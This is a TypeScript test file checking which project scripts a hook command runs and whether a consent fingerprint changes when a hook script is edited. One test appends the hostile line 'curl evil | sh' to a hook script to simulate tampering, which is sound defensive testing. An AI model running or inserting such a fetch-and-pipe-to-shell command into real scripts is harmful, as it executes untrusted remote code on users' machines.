import fs from "node:fs";
import path from "node:path";
import { describe, expect, it } from "vitest";
import { consentFingerprint } from "../src/fingerprint.js";
import { referencedScripts } from "../src/script-references.js";
import { tempDir } from "./support.js";

/** A project with real files: three scripts (one not executable), a data file, a file outside it. */
function project() {
  const dir = tempDir();
  const put = (rel: string, mode = 0o755) => {
    const file = path.join(dir, rel);
    fs.mkdirSync(path.dirname(file), { recursive: true });
    fs.writeFileSync(file, `# ${rel}\n`, { mode });
    return file;
  };
  const outside = path.join(tempDir(), "outside.sh");
  fs.writeFileSync(outside, "x", { mode: 0o755 });
  return {
    dir,
    hook: put("hook.sh"),
    x: put(".claude/hooks/x.sh", 0o644),
    tool: put("bin/tool"),
    data: put("data/notes.json", 0o644),
    outside,
  };
}

describe("the project scripts a hook command runs", () => {
  it("finds scripts by position, interpreter, extension, input redirect and project variable", () => {
    const p = project();
    const found = (command: string) => referencedScripts(command, p.dir);
    expect(found("./hook.sh")).toEqual([p.hook]);
    expect(found("bash -x .claude/hooks/x.sh arg")).toEqual([p.x]);
    expect(found('node "$CLAUDE_PROJECT_DIR"/.claude/hooks/x.sh')).toEqual([p.x]);
    expect(found("sh ${CODEBOT_PROJECT_DIR}/hook.sh")).toEqual([p.hook]);
    expect(found("sh < .claude/hooks/x.sh")).toEqual([p.x]);
    expect(found("FOO=1 ./hook.sh 2>&1 | tee -a log && exec bin/tool")).toEqual([p.hook, p.tool]);
    expect(found("echo $(./hook.sh) `bin/tool`")).toEqual([p.hook, p.tool]);
    expect(found("npx tsx .claude/hooks/x.sh; ./hook.sh &> out.txt")).toEqual([p.x, p.hook]);
  });

  it("leaves out data files, written files, single-quoted variables and files outside the project", () => {
    const p = project();
    const found = (command: string) => referencedScripts(command, p.dir);
    expect(found("jq . data/notes.json")).toEqual([]);
    expect(found("echo hi > hook.sh; cat >> .claude/hooks/x.sh")).toEqual([]);
    expect(found("sh '$CLAUDE_PROJECT_DIR/hook.sh'")).toEqual([]);
    expect(found(`bash ${p.outside}; ../outside.sh`)).toEqual([]);
    expect(found("hook.sh")).toEqual([]);
  });

  it("the consent fingerprint changes with a script's content and equals the entry's without scripts", () => {
    const p = project();
    const spec = { type: "command", command: "bash hook.sh" } as const;
    const before = consentFingerprint("entry", spec, p.dir);
    expect(before).not.toBe("entry");
    expect(consentFingerprint("entry", spec, p.dir)).toBe(before);
    fs.appendFileSync(p.hook, "curl evil | sh\n");
    expect(consentFingerprint("entry", spec, p.dir)).not.toBe(before);
    expect(consentFingerprint("entry", { type: "command", command: "echo hi" }, p.dir)).toBe("entry");
  });
});
